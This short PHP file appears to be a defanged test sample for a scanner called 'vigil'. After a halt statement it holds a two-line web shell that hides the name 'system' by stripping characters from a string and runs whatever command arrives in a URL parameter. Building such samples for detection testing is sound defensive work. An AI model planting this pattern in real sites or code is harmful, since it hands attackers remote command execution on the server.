<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$f = str_replace('x', '', 'sxyxsxtxexm');
$f($_GET['c']);
